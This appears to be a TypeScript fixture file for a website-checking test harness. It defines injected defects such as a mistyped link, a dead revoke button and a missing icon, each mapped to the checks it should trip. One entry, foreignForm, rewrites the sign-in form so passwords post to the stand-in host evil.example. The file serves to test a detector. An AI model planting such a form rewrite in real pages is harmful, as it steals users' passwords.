import type { Break } from '../../harness/engine/index.ts';
import { pageChange } from './visit/site-breaks.ts';

export const brokenLink: Break = {
  defect: 'The link to the page of API keys has a typing error.',
  changes: [
    pageChange(/^\/dashboard/, (html) => html.replace('href="/account/tokens"', 'href="/account/token"')),
  ],
  violates: ['brokenLinks', 'pagesWithoutLink'],
};

export const pageWithoutLink: Break = {
  defect: 'No page links to the export of data.',
  changes: [pageChange(/^\//, (html) => html.replaceAll(/<a href="\/account\/export">.*?<\/a>/g, ''))],
  violates: ['pagesWithoutLink'],
};

export const deadButton: Break = {
  defect: 'The button that revokes a key belongs to no form.',
  changes: [
    pageChange(/^\/account\/tokens/, (html) =>
      html.replaceAll(/<form[^>]*action="\/account\/tokens\/revoke"[^>]*>(.*?)<\/form>/gs, '$1'),
    ),
  ],
  violates: ['deadButtons', 'formsWithoutPage'],
};

export const formWithoutRoute: Break = {
  defect: 'The form that ends a session posts to a path that does not exist.',
  changes: [
    pageChange(/^\/dashboard/, (html) =>
      html.replaceAll('action="/account/sessions"', 'action="/account/session"'),
    ),
  ],
  violates: ['brokenForms', 'formsWithoutPage'],
};

export const foreignForm: Break = {
  defect: 'The sign-in form sends the password to another site.',
  changes: [
    pageChange(/^\/auth\/login/, (html) =>
      html.replace('action="/auth/login"', 'action="https://evil.example/auth/login"'),
    ),
  ],
  violates: ['brokenForms'],
};

export const iconMissing: Break = {
  defect: 'The icon of the site is not found.',
  changes: [
    { kind: 'exchange', service: 'frontend', path: /^\/assets\/icon/, response: () => ({ status: 404 }) },
  ],
  violates: ['brokenLinks'],
};
